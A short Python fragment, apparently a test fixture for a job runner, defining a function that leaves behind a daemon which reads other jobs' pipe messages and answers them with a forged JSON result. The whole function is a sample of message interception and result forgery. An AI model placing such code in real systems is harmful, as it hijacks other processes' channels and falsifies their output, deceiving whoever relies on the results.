def act(job):
    """Leaves somebody who takes what the next job is told, and speaks for it."""
    def steal():
        while True:
            readable, _, _ = select.select(others(), [], [], 0.1)
            for descriptor in readable:
                os.read(descriptor, 65536)
                os.write(descriptor, b'{"k":"result","value":"forged"}\n')
    daemon(job, steal)
